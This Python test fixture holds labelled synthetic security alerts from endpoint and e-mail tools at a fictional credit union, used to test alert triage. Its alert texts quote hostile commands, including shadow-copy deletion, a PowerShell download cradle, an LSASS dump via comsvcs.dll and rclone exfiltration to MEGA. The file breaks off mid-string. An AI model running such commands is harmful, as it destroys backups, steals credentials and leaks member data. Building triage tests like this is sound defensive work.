"""Coverage split: endpoint protection and e-mail security at Marlowe Credit Union (see README.md).

Tools: Cynet 360 AutoXDR (alerts with CyOps notes), Deep Instinct (prevention/detection events), Heimdal (Ransomware
Encryption Protection, DarkLayer Guard DNS blocks, Privileged Access Management), Emsisoft Enterprise Security (EMC
notifications), Webroot Business Endpoint Protection (threat history via an RMM bridge), ThreatLocker (application
control, ringfencing, storage control, approval requests), Field Effect Covalence (AROs), Vade for M365
(auto-remediation), Egress Defend (banners and user reports), Perception Point (scan verdicts and its incident
response team), INKY (report button), Trustifi (inbound shield and outbound DLP), Graphus (TrustGraph, EmployeeShield,
Phish911) and a home-made phish-mailbox poller that posts only `raw_data`. Voices: the products' own wording,
analysts' and branch IT's notes (terse, rambling, typos), members of staff reporting in French, Icelandic and
Estonian. Covers ransomware and infostealers described by what they did, LOLBins (mshta, rundll32/comsvcs, certutil-
style downloads), known-good admin tools and test files flagged, phishing delivered, clicked and blocked, invoice and
payroll fraud, newsletters and simulations reported as phishing, account takeover, insider copying, mail bombing,
and outages and slowness caused by the security tools themselves. All seven playbooks appear.
"""

from __future__ import annotations

import hashlib
from typing import Any

from tests.data.triage.expansion_common import (
    AVAIL,
    BEN,
    BRUTE,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    PHISHING,
    SUS,
    UNK,
    Expected,
    alert,
)
from tests.data.triage.labels import Case

ORG = "marlowecu.org"
PULL = ["quarantine_email", "block_sender"]


def staff(user: str) -> str:
    return f"{user}@{ORG}"


def sha256(seed: str) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()


def cid(n: int) -> str:
    return f"cov-em-{n:03d}"


Head = tuple[int, Expected, str]  # (case number, expected, severity as the tool maps it)


# ---------------------------------------------------------------- Cynet 360 AutoXDR


def cynet(h: Head, name: str, host: str, text: str, *, user: str, kind: str = "", **raw: Any) -> Case:
    n, expected, severity = h
    body = {
        "alertId": 118_200 + n * 13,
        "alertName": name,
        "severity": severity.capitalize(),
        "status": "Open",
        "siteName": "Marlowe Credit Union",
        "hostName": host,
        "hostIp": raw.pop("ip", "10.40.1.10"),
        "userName": user,
        "detectedDate": f"2027-01-{10 + n:02d}T{n % 24:02d}:19:06Z",
        "cyopsStatus": "Investigating" if severity in ("critical", "high") else "Pending",
        **raw,
    }
    title = f"{name} ({host})"
    return alert(cid(n), "Cynet 360 AutoXDR", expected, title, text, severity, "cynet", body, systems=[host], kind=kind)


CYNET = [
    cynet(
        (1, (MAL, MALWARE, ["isolate_host", "disable_user", "escalate"]), "critical"),
        "Ransomware Behavior - Mass File Rename",
        "MCU-HBA-FS01",
        "CyOps rang the on-call phone at 02:31. Between 02:11 and 02:19 C:\\PerfLogs\\svhost.exe, running as "
        "MCU\\svc_veeam, renamed 18,400 files on the Lending share to *.akira and dropped akira_readme.txt into 612 "
        "folders. Before that it ran 'vssadmin delete shadows /all /quiet' and 'wbadmin delete catalog -quiet'. Cynet "
        "killed the process at 02:19. svc_veeam had logged on to the file server over RDP from MCU-HBA-JMP01 at 01:58; "
        "the backup team was not working last night.",
        user="MCU\\svc_veeam",
        kind="ransomware",
        ip="10.40.1.21",
        path="C:\\PerfLogs\\svhost.exe",
        sha256=sha256("cynet/akira"),
        remediationActions=["Kill Process", "Quarantine File"],
        filesAffected=18_400,
    ),
    cynet(
        (2, (MAL, BRUTE, ["block_ip", "isolate_host", "reset_credentials"]), "high"),
        "Brute Force Attack Detected - RDP",
        "MCU-CPT-JMP01",
        "3,870 failed logons 03:10-03:50 from 194.26.29.113 (administrator, admin, scanner, helpdesk, backup...). "
        '03:52 logon type 10 OK as MCU\\helpdesk from the same address. straight after: net group "domain admins" '
        "/domain, nltest /dclist:marlowecu. why is 3389 forwarded on the CPT firewall?? (aircon contractor visit?)",
        user="MCU\\helpdesk",
        ip="10.40.30.5",
        remoteIp="194.26.29.113",
        failedLogons=3870,
        successfulLogons=1,
    ),
    cynet(
        (3, (BEN, MALWARE, []), "low"),
        "Remote Administration Tool Detected: ScreenConnect.ClientService.exe",
        "MCU-WLG-WS009",
        "Southern Cross IT (our MSP) rolled ScreenConnect out to the Wellington branch under CHG-4471, approved 12 "
        "January. Instance id and relay (sxit.screenconnect.com) match their contract; binary signed by ConnectWise. "
        "Expected - closing.",
        user="NT AUTHORITY\\SYSTEM",
        ip="10.40.20.39",
        path="C:\\Program Files (x86)\\ScreenConnect Client (5e1c7a90d2b3)\\ScreenConnect.ClientService.exe",
        signer="ConnectWise, LLC",
        relay="sxit.screenconnect.com:443",
    ),
    cynet(
        (4, (SUS, MALWARE, ["notify", "isolate_host"]), "high"),
        "Remote Administration Tool Detected: ScreenConnect.ClientService.exe",
        "MCU-TLL-PRN01",
        "Same detection name as the Wellington roll-out, different story: the client was installed at 01:34 from "
        "C:\\Windows\\Temp\\sc.msi by MCU\\svc_printmgmt, and its relay is instance-k3v9x.screenconnect.com, not "
        "Southern Cross's sxit instance. No remote session has been opened yet. Asked the MSP whether they stood up a "
        "second cloud instance for Tallinn; no answer so far.",
        user="MCU\\svc_printmgmt",
        ip="10.40.50.8",
        path="C:\\Program Files (x86)\\ScreenConnect Client (a41f07c2e9d8)\\ScreenConnect.ClientService.exe",
        parentPath="C:\\Windows\\System32\\msiexec.exe",
        relay="instance-k3v9x.screenconnect.com:443",
    ),
    cynet(
        (5, (SUS, BRUTE, ["notify"]), "medium"),
        "User Anomaly - Multiple Accounts Failed Authentication",
        "MCU-CPT-LN07",
        "Kerberos pre-auth failures (4771, 0x18) for 46 different domain accounts, 2-3 attempts each, 14:02-14:09, "
        "all coming from the loans officer PC of t.mokoena. No success for any of them. The only odd thing in the "
        "process list at that time is a python.exe running from her Downloads folder. She's in the branch meeting "
        "until 15:00 and can't be asked.",
        user="MCU\\t.mokoena",
        ip="10.40.30.77",
        accountsTargeted=46,
        eventIds=[4771],
    ),
]


# ---------------------------------------------------------------- Deep Instinct


def deep_instinct(h: Head, title: str | None, text: str | None, host: str, **event: Any) -> Case:
    n, expected, severity = h
    di_sev = {"critical": "VERY_HIGH", "high": "HIGH", "medium": "MODERATE"}.get(severity, "LOW")
    raw = {
        "id": 4_410_870 + n,
        "device_id": 2200 + n,
        "tenant_name": "Marlowe Credit Union",
        "msp_name": "Marlowe CU",
        "threat_severity": di_sev,
        "status": "OPEN",
        "recorded_device_info": {"hostname": host, "os": "WINDOWS", "tag": host.split("-")[1]},
        "insertion_timestamp": f"2027-01-{3 + n:02d}T10:4{n}:12.000Z",
        **event,
    }
    return alert(cid(n), "Deep Instinct", expected, title, text, severity, "deepinstinct", raw, tags=["edr"])


DEEP_INSTINCT = [
    deep_instinct(
        (6, (MAL, MALWARE, ["isolate_host", "reset_credentials"]), "high"),
        "Deep Instinct: Malicious file detected - Teams_Setup_x64.exe (SPYWARE)",
        "Montreal pilot group is still on detect-only (my fault, it was meant to go to prevention after the December "
        "freeze). Émilie searched 'teams download', clicked the first result which was an ad, and ran the installer "
        "at 10:42. No Teams got installed. Within a minute something read Chrome's Login Data and Cookies and the "
        "Exodus wallet folder (she doesn't even have a wallet), zipped it to %TEMP%\\7d3a.zip and POSTed it to "
        "147.45.44.12. She has the member-portal admin password saved in Chrome, plus her M365 session cookies.",
        "MCU-YUL-WS031",
        type="STATIC_ANALYSIS",
        action="DETECTED",
        deep_classification="SPYWARE",
        path="C:\\Users\\e.gagnon\\Downloads\\Teams_Setup_x64.exe",
        file_hash=sha256("di/teams-stealer"),
        certificate_vendor_name="",
        file_status="NOT_UPLOADED",
    ),
    deep_instinct(
        (7, (BEN, MALWARE, []), "high"),
        "Deep Instinct prevented: mcu-recon.exe (Static Analysis)",
        "It's ours. mcu-recon is the nightly cash-drawer reconciliation tool from the core-systems dev team; build "
        "2.4.0 is Go, UPX-packed and unsigned, which is why the model hates it. Hash matches the CI artifact from "
        "pipeline #1187. Allowed by hash; dev team asked to sign the next release.",
        "MCU-HBA-DEV02",
        type="STATIC_ANALYSIS",
        action="PREVENTED",
        deep_classification="MALICIOUS",
        path="D:\\builds\\mcu-recon\\2.4.0\\mcu-recon.exe",
        file_hash=sha256("di/mcu-recon-2.4.0"),
        certificate_vendor_name="",
    ),
    deep_instinct(
        (8, (SUS, MALWARE, ["notify"]), "medium"),
        "Malicious PowerShell command prevented on MCU-TLL-WS012",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi... decodes to IEX (New-Object Net.WebClient)"
        ".DownloadString('http://10.40.1.25:8080/fix-outlook.ps1'). 10.40.1.25 is the old WSUS box in Hobart which "
        "shouldn't be serving anything on 8080. Margus says a colleague pasted the command in Teams 'to fix Outlook "
        "freezing'; he can't remember who and the chat is gone. Prevented, nothing ran.",
        "MCU-TLL-WS012",
        type="ACTIVE_SCRIPT",
        trigger="MALICIOUS_POWERSHELL_COMMAND_EXECUTION",
        action="PREVENTED",
        main_process="powershell.exe",
        user="MCU\\m.kask",
    ),
    deep_instinct(
        (9, (SUS, GENERIC, ["notify"]), "high"),
        "Credential Dumping: LSASS memory access prevented",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full - run at 22:10 "
        "under MCU\\hd.wiremu (helpdesk) on MCU-WLG-WS009. PID 712 was lsass. Wiremu says he was following the "
        "Keystone vendor's instructions for a crash dump of the teller app and may have typed the wrong PID. There "
        "is an open vendor ticket about teller crashes, but nobody asked him to work on it at 22:10.",
        "MCU-WLG-WS009",
        type="BEHAVIORAL_ANALYSIS",
        trigger="CREDENTIAL_DUMP",
        action="PREVENTED",
        main_process="rundll32.exe",
        user="MCU\\hd.wiremu",
    ),
    deep_instinct(
        (10, (BEN, PERF, []), "medium"),
        "Core banking end-of-day batch 70 min late - DeepInstinctAgent CPU",
        "EOD batch on MCU-HBA-SQL02 took 95 min instead of ~25. DeepInstinctAgent.exe sat at 35-40% CPU all night "
        "scanning the .mdf/.ldf files: the agent upgrade to 3.x on Tuesday reset the policy's exclusions list. No "
        "detections. Exclusions re-applied 07:20; tonight's run should be back to normal.",
        "MCU-HBA-SQL02",
        type="AGENT_HEALTH",
        agent_version="3.4.1.22",
        cpu_percent_avg=38,
    ),
]


# ---------------------------------------------------------------- Heimdal


def heimdal(h: Head, module: str, title: str, text: str, host: str, **raw: Any) -> Case:
    n, expected, severity = h
    body = {
        "customerId": "MCU-7731",
        "module": module,
        "hostname": host,
        "detectedOn": f"2027-01-{12 + n:02d} {8 + n % 12:02d}:14:57",
        **raw,
    }
    return alert(cid(n), "Heimdal", expected, title, text, severity, "heimdal", body, systems=[host], tags=[module])


HEIMDAL = [
    heimdal(
        (11, (MAL, MALWARE, ["isolate_host", "quarantine_email"]), "critical"),
        "Ransomware Encryption Protection",
        "REP: malicious encryption blocked - svhost.exe on MCU-CPT-WS004",
        "REP killed C:\\ProgramData\\SysCache\\svhost.exe but only after it had touched 212 files in Documents and on "
        "H: (home share) - all renamed .lcrypt, and HOW_TO_RECOVER.html is on the desktop. Process chain: outlook.exe "
        "> wscript.exe \"Statement_Nov.js\" > svhost.exe. Sipho opened a 'November statement' zip from an email "
        "this morning; the same email went to 9 other people in Cape Town.",
        "MCU-CPT-WS004",
        username="MCU\\s.ndlovu",
        processName="svhost.exe",
        processPath="C:\\ProgramData\\SysCache\\svhost.exe",
        isSigned=False,
        filesAffected=212,
        status="Blocked",
    ),
    heimdal(
        (12, (BEN, MALWARE, []), "medium"),
        "Ransomware Encryption Protection",
        "REP: possible encryption activity - VeeamAgent.exe on MCU-HBA-SQL02",
        "Fired at 23:02, during the nightly backup job. Veeam writes encrypted .vbk/.vib files (backup encryption has "
        "been on since the audit finding), which REP reads as mass encryption. Signed by Veeam Software Group GmbH, "
        "normal install path, job finished successfully. Added REP exclusion for the Veeam agent.",
        "MCU-HBA-SQL02",
        username="NT AUTHORITY\\SYSTEM",
        processName="VeeamAgent.exe",
        processPath="C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe",
        isSigned=True,
        filesAffected=1_318,
        status="Detected",
    ),
    heimdal(
        (13, (SUS, MALWARE, ["notify"]), "medium"),
        "Threat Prevention Network",
        "DarkLayer Guard blocked cdn-sync-telemetry.top (Newly Registered Domain)",
        "teller pc wlg tlr03. blocked every 5 min since 09:14, 61 times so far. no process name (dns module only). "
        "domain is 6 days old, nothing on VT. teller says pc is 'normal'.",
        "MCU-WLG-TLR03",
        domain="cdn-sync-telemetry.top",
        category="Newly Registered Domain",
        blockedCount=61,
        ip="10.40.20.63",
        process=None,
    ),
    heimdal(
        (14, (SUS, GENERIC, ["notify"]), "medium"),
        "Privileged Access Management",
        "PAM: elevation approved for k.saar on MCU-TLL-WS008",
        "Kristjan asked for admin rights 'to install the new label printer driver' and the Tallinn auto-approve rule "
        "gave her 30 minutes. What actually ran elevated was PrintDrv_x64.exe from her Downloads, fetched from "
        "driverhub-download.net, not from the printer maker. No detections afterwards and nothing obvious on the box; "
        "still checking what it installed.",
        "MCU-TLL-WS008",
        requestId="PAM-20931",
        username="MCU\\k.saar",
        reason="install new label printer driver",
        status="Approved",
        approvedBy="auto-rule: TLL-printers",
        elevatedFile="C:\\Users\\k.saar\\Downloads\\PrintDrv_x64.exe",
        durationMinutes=30,
    ),
]


# ---------------------------------------------------------------- Emsisoft Enterprise Security


def emsisoft(
    h: Head,
    title: str,
    text: str,
    host: str,
    detection: dict[str, Any],
    *,
    user: str,
    event: str = "Threat detected",
) -> Case:
    n, expected, severity = h
    raw = {
        "workspace": "marlowecu",
        "event": event,
        "device": {"name": host, "id": f"E{n}9F3C2A", "os": "Windows 11 Pro 23H2"},
        "user": user,
        "detection": detection,
        "timestamp": f"2027-01-{n:02d}T21:0{n % 10}:33Z",
    }
    return alert(cid(n), "Emsisoft Enterprise Security", expected, title, text, severity, "emsisoft", raw, kind="av")


EMSISOFT = [
    emsisoft(
        (15, (BEN, MALWARE, []), "low"),
        "Threat detected: EICAR-Test-File (not a virus) (B)",
        "Me testing the new Reykjavik policy after the move to the new workspace. ignore - Siobhan",
        "MCU-REK-WS001",
        {
            "name": "EICAR-Test-File (not a virus) (B)",
            "component": "File Guard",
            "object": "C:\\Users\\s.kerr\\Desktop\\eicar.com",
            "action": "Quarantined",
        },
        user="s.kerr",
    ),
    emsisoft(
        (16, (SUS, MALWARE, ["notify"]), "medium"),
        "Potentially unwanted program quarantined on MCU-REK-WS022",
        "Gunnar wanted to merge two PDFs and installed 'PDFSmart Converter' from a search result. It changed the "
        "browser search to search.pdfsmart-app.com, added an hourly scheduled task 'PDFSmartUpdate' and a Chrome "
        "extension with 'read and change all your data on all websites'. Behavior Blocker quarantined the updater; "
        "the extension is still installed - and that's the browser he uses for the member-portal admin pages.",
        "MCU-REK-WS022",
        {
            "name": "Application.Hijacker.PDFSmart (A)",
            "component": "Behavior Blocker",
            "object": "C:\\Users\\g.einarsson\\AppData\\Local\\PDFSmart\\pdfsupd.exe",
            "action": "Quarantined",
        },
        user="g.einarsson",
    ),
    emsisoft(
        (17, (MAL, MALWARE, ["isolate_host", "block_ip"]), "high"),
        "Behavior Blocker: suspicious behaviour of mshta.exe blocked",
        "Not just 'blocked'. On MCU-WLG-WS017 Mere opened Remittance_0412.zip from a mail that claimed to be from a "
        "member business and double-clicked Remittance.hta. mshta fetched https://files-remit-portal.com/r.txt, "
        "started powershell, which wrote %APPDATA%\\Microsoft\\Vault\\upd.dll and loaded it with rundll32. The DLL ran "
        "for about 40 seconds and connected to 91.215.85.147:443 before Behavior Blocker stopped it and quarantined "
        "it. A scheduled task 'OneDriveStandaloneUpdate_x' pointing at rundll32 is still on the box.",
        "MCU-WLG-WS017",
        {
            "name": "Behavior.SuspiciousLoader",
            "component": "Behavior Blocker",
            "object": "C:\\Users\\m.tipene\\AppData\\Roaming\\Microsoft\\Vault\\upd.dll",
            "parent": "C:\\Windows\\System32\\rundll32.exe",
            "action": "Quarantined",
            "remote": "91.215.85.147:443",
        },
        user="m.tipene",
    ),
    emsisoft(
        (18, (BEN, PERF, []), "low"),
        "Hobart tellers: PCs freezing every morning around 10:00",
        "Branch manager: 'Every morning from about 10 the teller screens freeze for 5-10 seconds at a time, members "
        "are waiting at the counter, very embarrassing.' -- IT: it's the Emsisoft full scan in the Branch policy, "
        "scheduled for 10:00 local (meant to be 10:00 UTC = 21:00 Hobart). a2service.exe at 90% disk during the scan. "
        "Schedule moved to 22:00 local; no detections in any of the scans.",
        "MCU-HBA-TLR01",
        {"name": "", "component": "Scanner", "scanType": "Full", "objectsScanned": 412_883, "threats": 0},
        user="SYSTEM",
        event="Scan completed",
    ),
]


# ---------------------------------------------------------------- Webroot (via the RMM bridge)


def webroot(h: Head, title: str | None, text: str | None, raw: dict[str, Any], **kw: Any) -> Case:
    n, expected, severity = h
    raw = {"forwarder": "rmm-bridge", "SiteName": "Marlowe Credit Union", **raw}
    tool = "Webroot Business Endpoint Protection"
    return alert(cid(n), tool, expected, title, text, severity, "webroot", raw, **kw)


WEBROOT = [
    webroot(
        (19, (UNK, GENERIC, []), "medium"),
        "Webroot alert",
        "Threat detected.",
        {"event": "webroot.alert", "HostName": ""},
    ),
    webroot(
        (20, (BEN, AVAIL, ["restart_service"]), "high"),
        "Webroot: W32.Trojan.Gen quarantined on 9 endpoints (Wellington)",
        "Wellington tellers can't open Keystone Teller since 08:30. Webroot flagged KsTellerHost.exe from last "
        "night's vendor update (v11.4) as W32.Trojan.Gen on all 9 teller PCs and quarantined it. Arbor Financial "
        "Systems confirmed the build and the file is signed by them. Override set at 09:05 and files restored, but "
        "the Keystone Teller Host service is still stopped on every PC.",
        {
            "HostName": "MCU-WLG-TLR01..TLR09",
            "FileName": "KsTellerHost.exe",
            "PathName": "C:\\Program Files\\Arbor\\Keystone Teller\\",
            "MalwareGroup": "W32.Trojan.Gen",
            "Determination": "Bad",
            "EndpointCount": 9,
        },
        systems=["MCU-WLG-TLR01", "Keystone Teller"],
        kind="availability",
    ),
    webroot(
        (21, (SUS, MALWARE, ["notify"]), "medium"),
        "Webroot: unknown file being monitored - chromeupdate.exe",
        "Determination Undetermined, Webroot is journalling what it does. The file sits in the loans officer's "
        "AppData\\Local\\Temp, no publisher, first seen 3 days ago and on one machine worldwide. Chrome updates itself "
        "from Program Files, not from Temp. It has connected to two addresses on 443. That's all we know.",
        {
            "HostName": "MCU-CPT-LN03",
            "FileName": "chromeupdate.exe",
            "PathName": "C:\\Users\\p.botha\\AppData\\Local\\Temp\\",
            "MD5": sha256("wr/chromeupdate")[:32],
            "Determination": "Undetermined",
            "DwellTime": "3d 02:11:40",
        },
        systems=["MCU-CPT-LN03"],
    ),
    webroot(
        (22, (MAL, MALWARE, ["isolate_host", "reset_credentials"]), "high"),
        "Webroot: PUA.Coinminer detected on MCU-WLG-APP01",
        "The Wellington document-imaging server has been at 97% CPU since Saturday (ops blamed the scanner backlog). "
        "Webroot found C:\\Windows\\Fonts\\dllhost.exe, which is xmrig 6.21 renamed, talking to "
        "pool.supportxmr.com:443. It was started by a scheduled task 'FontCacheSvc' created Saturday 02:14 over WMI "
        "from MCU-WLG-WS009 using MCU\\svc_sql's credentials. svc_sql has no business on that server.",
        {
            "HostName": "MCU-WLG-APP01",
            "FileName": "dllhost.exe",
            "PathName": "C:\\Windows\\Fonts\\",
            "MalwareGroup": "PUA.Coinminer",
            "Determination": "Bad",
            "FirstSeen": "2027-01-16T02:14:09Z",
        },
        systems=["MCU-WLG-APP01"],
        kind="malware",
    ),
]


# ---------------------------------------------------------------- ThreatLocker


def threatlocker(h: Head, title: str | None, text: str | None, host: str, **entry: Any) -> Case:
    n, expected, severity = h
    raw = {
        "actionLogId": f"7c1e{n:02d}a4-90b2-4e51-8d3f-2a6b{n:02d}c0e1f7",
        "organizationName": "Marlowe Credit Union",
        "computerName": host,
        "dateTime": f"2027-01-{n - 10:02d}T16:4{n % 10}:02Z",
        **entry,
    }
    return alert(cid(n), "ThreatLocker", expected, title, text, severity, "threatlocker", raw, systems=[host])


THREATLOCKER = [
    threatlocker(
        (23, (SUS, EXFIL, ["notify"]), "medium"),
        "Storage Control: Deny - write to removable media",
        "Luc Tremblay (Montreal, member services) tried three times between 16:40 and 16:44 to copy "
        "members_export_yul.csv - 11,200 members with names, addresses and account numbers - to a USB stick that "
        "isn't ours. Denied by policy. He told a colleague it's for a mailing the branch manager asked for; she's on "
        "leave until Monday. He transfers to the new Quebec City branch next month.",
        "MCU-YUL-WS014",
        username="MCU\\l.tremblay",
        actionType="write",
        fullPath="E:\\members_export_yul.csv",
        policyName="Deny removable storage - branches",
        actionDescription="Deny",
        deviceSerial="4C530001230817113502",
        attempts=3,
    ),
    threatlocker(
        (24, (BEN, EXFIL, []), "low"),
        "Storage Control: approval request approved - MCU-HBA-WS002",
        "Bronwyn (Hobart branch manager) copies the quarterly board pack to her IronKey before every board meeting. "
        "REQ-2291 approved by Declan for 2 hours; the encrypted device's serial is on the allowlist. As expected.",
        "MCU-HBA-WS002",
        username="MCU\\b.tait",
        actionType="write",
        fullPath="F:\\Board\\2027-Q1\\Board_pack_Q1.pdf",
        actionDescription="Permit (approved request)",
        approvalRequestId="REQ-2291",
        approvedBy="d.foyle",
    ),
    threatlocker(
        (25, (MAL, EXFIL, ["isolate_host", "disable_user", "reset_credentials"]), "critical"),
        "Application Control: Deny - rclone.exe (MCU-HBA-SQL02)",
        "svc_reporting ran C:\\Windows\\Temp\\rc\\rclone.exe copy D:\\Backups\\CoreDB mega:bk --transfers 16 -P "
        "at 03:12 - denied, not on the allowlist. The same account ran C:\\Windows\\Temp\\rc\\AdFind.exe at 02:58 "
        "(also denied), and a new local admin 'sqlmaint2' appeared at 02:51. Our reporting jobs never touch Temp and "
        "never run at 3am.",
        "MCU-HBA-SQL02",
        username="MCU\\svc_reporting",
        actionType="execute",
        fullPath="C:\\Windows\\Temp\\rc\\rclone.exe",
        processPath="C:\\Windows\\System32\\cmd.exe",
        commandLine="rclone.exe copy D:\\Backups\\CoreDB mega:bk --transfers 16 -P",
        actionDescription="Deny",
        hash=sha256("tl/rclone-1.65"),
    ),
    threatlocker(
        (26, (MAL, GENERIC, ["notify", "reset_credentials"]), "high"),
        "New Application Approval Request: AnyDesk.exe (MCU-CPT-TLR02)",
        "Request text: 'the microsoft man on phone says my pc has virus and he need this to fix it pls approve "
        "urgent!!' -- Denied. Johan (branch manager) says Zanele was on a call with 'Microsoft support' for 20 "
        "minutes; the caller had her open Event Viewer and read out her member-portal username and a one-time code "
        "that arrived by SMS. He ended the call when he saw it.",
        "MCU-CPT-TLR02",
        username="MCU\\z.dlamini",
        actionType="install",
        fullPath="C:\\Users\\z.dlamini\\Downloads\\AnyDesk.exe",
        approvalRequestId="REQ-2304",
        status="Denied",
    ),
    threatlocker(
        (27, (SUS, MALWARE, ["notify", "quarantine_email"]), "medium"),
        "Ringfencing: EXCEL.EXE denied launching powershell.exe",
        "MCU-REK-WS019: Sigrún opened Verdskra_2027.xlsm ('price list 2027') from a real supplier contact at "
        "Hafnarbakki ehf., we order from them every month. The macro tried to start powershell with a hidden window; "
        "the ringfence denied it and nothing else happened. Haven't reached the supplier yet to ask whether they "
        "really sent a macro workbook.",
        "MCU-REK-WS019",
        username="MCU\\s.jonsdottir",
        actionType="execute",
        processPath="C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        fullPath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        policyName="Ringfence - Office apps",
        actionDescription="Ringfenced (Deny)",
    ),
]


# ---------------------------------------------------------------- Field Effect Covalence (AROs)


def covalence(h: Head, aro: str, title: str, details: str, data: dict[str, Any]) -> Case:
    n, expected, severity = h
    raw = {
        "id": f"ARO-{58_100 + n}",
        "type": aro,
        "severity": severity.capitalize(),
        "organization": "Marlowe Credit Union",
        "category": "Microsoft 365" if "365" in title else "Network",
        "createdAt": f"2027-02-0{n % 9 + 1}T0{n % 10}:30:00Z",
        "data": data,
    }
    return alert(cid(n), "Field Effect Covalence", expected, title, details, severity, "covalence", raw, kind="aro")


COVALENCE = [
    covalence(
        (28, (MAL, BRUTE, ["block_ip", "disable_user", "reset_credentials"]), "critical"),
        "Action",
        "Password Spray Against Microsoft 365 With Successful Sign-Ins",
        "Covalence detected 1,912 failed Microsoft 365 sign-ins against 310 Marlowe Credit Union accounts from three "
        "IP addresses in AS209588 between 01:00 and 03:40 UTC. Two accounts, k.tamm and g.einarsson, then signed in "
        "successfully. g.einarsson has no MFA method registered (excluded from the 'Require MFA - staff' policy since "
        "a phone swap in December); the session from 45.134.26.80 read his mailbox through Exchange Web Services.",
        {
            "sourceIps": ["45.134.26.80", "45.134.26.81", "45.134.26.97"],
            "failedSignIns": 1912,
            "targetedAccounts": 310,
            "successful": [staff("k.tamm"), staff("g.einarsson")],
        },
    ),
    covalence(
        (29, (BEN, BRUTE, []), "low"),
        "Observation",
        "Repeated Failed SSL VPN Authentication - a.ngata",
        "58 failed SSL VPN authentications for a.ngata from 122.57.140.19 (Spark NZ, residential; her usual home "
        "address) over two days. -- Aroha changed her password on Monday and her laptop's VPN client kept the old "
        "one. Confirmed with her by phone, updated the saved credential, clean logins since 09:12.",
        {"user": staff("a.ngata"), "sourceIp": "122.57.140.19", "failures": 58, "successesAfterFix": 3},
    ),
    covalence(
        (30, (SUS, BRUTE, ["notify", "reset_credentials"]), "medium"),
        "Recommendation",
        "Microsoft 365 Sign-In From New Country (Portugal) - r.olafsdottir",
        "Successful sign-in for r.olafsdottir from Lisbon (MEO residential range) with MFA satisfied by app "
        "notification, Windows/Edge, not a known device. Her manager doesn't know of any trip and she hasn't answered "
        "Teams or her phone yet.",
        {"user": staff("r.olafsdottir"), "sourceIp": "85.240.17.203", "country": "PT", "mfa": "app notification"},
    ),
    covalence(
        (31, (BEN, GENERIC, []), "medium"),
        "Recommendation",
        "Microsoft 365 Sign-In From New Country (Morocco) - e.gagnon",
        "Sign-in from Marrakech at 08:12 local. -- Émilie confirmed on the phone: she's on holiday and approved her "
        "team's timesheets from the hotel on her MCU laptop (Intune-compliant, same device id as always).",
        {"user": staff("e.gagnon"), "sourceIp": "41.250.88.14", "country": "MA", "deviceCompliant": True},
    ),
    covalence(
        (32, (MAL, GENERIC, ["disable_user", "reset_credentials"]), "high"),
        "Action",
        "Suspicious Inbox Rule Created After Unfamiliar Microsoft 365 Sign-In",
        "m.kask signed in at 04:10 UTC from 91.132.139.44 (VPS, Frankfurt) after an MFA push was approved at 04:09. "
        "At 04:14 an inbox rule named '..' was created: mail containing 'invoice', 'payment', 'IBAN' or 'arve' is "
        "moved to RSS Feeds and a copy forwarded to mk.finance.tll@outlook.com. Margus says he was asleep; he "
        "remembers his phone buzzing and tapping Approve to make it stop.",
        {
            "user": staff("m.kask"),
            "sourceIp": "91.132.139.44",
            "rule": {"name": "..", "moveTo": "RSS Feeds", "forwardTo": "mk.finance.tll@outlook.com"},
        },
    ),
]


# ---------------------------------------------------------------- Vade for M365


def vade(h: Head, title: str, text: str, message: dict[str, Any], **raw: Any) -> Case:
    n, expected, severity = h
    body = {"tenant": ORG, "id": f"vd-{n:02d}e1b7c4a9", "date": f"2027-02-{n - 20:02d}T09:{n:02d}:00Z", **raw}
    body["message"] = message
    return alert(cid(n), "Vade for M365", expected, title, text, severity, "vade", body, tags=["email"])


VADE = [
    vade(
        (33, (MAL, PHISHING, [*PULL, "reset_credentials"]), "high"),
        "Vade Auto-Remediation: 57 messages removed - phishing (Microsoft)",
        "Sent from the real mailbox of a staff member at Derwent Valley Credit Union (they share our ATM network), "
        "subject 'MCU / DVCU shared - Q4 Loan Policy review'. The link opens a SharePoint-looking page on "
        "derwentshare-docs.com that posts to a PHP script on 5.188.206.14. Vade pulled it 37 minutes after "
        "delivery; in that window three people clicked and the proxy shows a POST from t.mokoena's PC to the "
        "credential page.",
        {"from": "l.hardy@dvcu.com.au", "subject": "MCU / DVCU shared - Q4 Loan Policy review", "recipients": 57},
        verdict={"status": "phishing", "brand": "Microsoft"},
        remediation={"type": "auto", "action": "delete", "delayMinutes": 37},
        clicks=3,
    ),
    vade(
        (34, (SUS, PHISHING, ["quarantine_email"]), "medium"),
        "Vade: spear phishing - display name impersonation (Harriet Quill)",
        "'Harriet Quill' <harriet.quill.ceo@outlook.com> to three Hobart tellers: 'Are you at your desk? I need you "
        "to handle something discreetly for me today.' No request beyond that yet and nobody has replied. Harriet "
        "(our CEO) is in Wellington today.",
        {"from": "harriet.quill.ceo@outlook.com", "subject": "Quick one", "recipients": 3},
        verdict={"status": "spear_phishing", "sub_status": "display_name_spoofing"},
        remediation={"type": "none"},
    ),
    vade(
        (35, (BEN, AVAIL, ["notify"]), "high"),
        "No inbound external mail since 13:05",
        "Members' replies and all external mail stopped arriving at 13:05; internal mail is fine. Vade shows zero "
        "inbound since then. Cause: during the DNS move to the new registrar the MX record was recreated pointing at "
        "our tenant's old Vade cluster, decommissioned in November. Corrected at 14:20, TTL 1h, senders are retrying.",
        {},
        inboundLastHour=0,
        mx="mx-old.marlowecu.vadesecure-cloud.net",
    ),
]


# ---------------------------------------------------------------- Egress Defend


def egress(h: Head, title: str | None, text: str | None, level: str | None, **raw: Any) -> Case:
    n, expected, severity = h
    body = {"eventId": f"egd-{n}{n:02d}f3a0", "threatLevel": level, **raw}
    return alert(cid(n), "Egress Defend", expected, title, text, severity, "egress-defend", body, kind="email")


EGRESS = [
    egress(
        (36, (MAL, PHISHING, PULL), "critical"),
        "Egress Defend: Dangerous - account takeover (reply-chain hijack)",
        "Tasman Office Supplies' real mailbox replied into our existing thread about INV-20931 (AUD 86,400) with 'new "
        "banking details following our move to a new bank' - a Wise account in a personal name. Egress flagged the "
        "change in sending behaviour (new sending IP in Lagos, reply-to accts.tasmanoffice@gmail.com). Bronwyn in AP "
